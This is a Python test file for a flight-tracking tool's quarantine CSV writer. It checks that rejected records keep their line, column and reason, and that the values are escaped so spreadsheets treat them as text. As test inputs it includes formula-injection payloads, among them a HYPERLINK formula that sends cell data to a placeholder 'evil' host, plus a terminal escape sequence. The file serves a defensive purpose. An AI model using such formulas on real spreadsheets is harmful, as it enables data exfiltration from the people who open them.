"""The quarantine file: every record with its place, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
from pathlib import Path

from flighttrace.accounting import Quarantined
from flighttrace.ingest.quarantine import write_quarantine
from tests.ingest.track_samples import OPENSKY_HEADER, flight, opensky_row, text


def written(path: Path, records: list[Quarantined]) -> list[list[str]]:
    write_quarantine(path, records)
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_what_was_quarantined_is_written_with_line_column_and_reason(tmp_path: Path, read_files) -> None:
    rows = [opensky_row(fix) for fix in flight()]
    rows[3] = rows[3].replace("f0a1b2", "f0a1bx")
    result = read_files({"states.csv": text(OPENSKY_HEADER, *rows)})
    assert written(tmp_path / "q.csv", list(result.quarantined)) == [
        ["file", "line", "column", "reason", "value"],
        ["states.csv", "5", "icao24", "address is not six hex digits", "f0a1bx"],
    ]


def test_formulas_stay_text_and_control_characters_are_escaped(tmp_path: Path) -> None:
    values = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "a\x1b[2J", 'quo"te,and\nbreak']
    table = written(tmp_path / "q.csv", [Quarantined("=x.csv", 2, "lat", "r", value) for value in values])
    assert [row[4] for row in table[1:]] == [
        '\'=HYPERLINK("http://evil/?"&A1)',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "\\t=1",
        "a\\x1b[2J",
        'quo"te,and\\nbreak',
    ]
    assert {row[0] for row in table[1:]} == {"'=x.csv"}
